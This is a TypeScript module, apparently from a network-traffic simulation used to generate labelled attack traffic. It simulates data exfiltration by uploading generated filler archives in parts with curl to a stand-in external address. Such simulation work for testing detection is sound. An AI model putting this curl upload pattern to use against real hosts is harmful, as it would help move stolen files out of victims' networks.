/** A host that sends far more out than it ever did. */
import { makeFile } from '../ordinary/transfers.ts'
import type { HostName } from '../plan.ts'
import { filler } from '../servers/nginx.ts'
import type { World } from '../world.ts'

export interface UploadOptions {
  readonly from?: HostName
  readonly megabytes: number
  readonly parts?: number
  readonly url?: string
}

export async function exfiltrate(world: World, options: UploadOptions): Promise<void> {
  const { from = 'client', megabytes, parts = 1, url = 'https://203.0.113.66' } = options
  const host = world.host(from)
  const target = new URL(url)
  const port = Number(target.port || (target.protocol === 'https:' ? 443 : 80))
  const deed = {
    behaviour: 'exfiltration',
    protocol: 'tcp',
    client: host.address,
    server: target.hostname,
    serverPorts: [port],
  } as const
  const bytes = Math.round((megabytes * 1024 * 1024) / parts)
  await world.malicious([deed], async () => {
    for (let part = 0; part < parts; part++) {
      const path = await makeFile(host, 'archive.7z', filler(bytes, 900 + part))
      const place = `${url}/upload/archive${part}.7z`
      await host.attempt(['curl', '-s', '-k', '-m', '120', '-o', '/dev/null', '-T', path, place])
      if (part + 1 < parts) await world.pause(3_000)
    }
  })
}
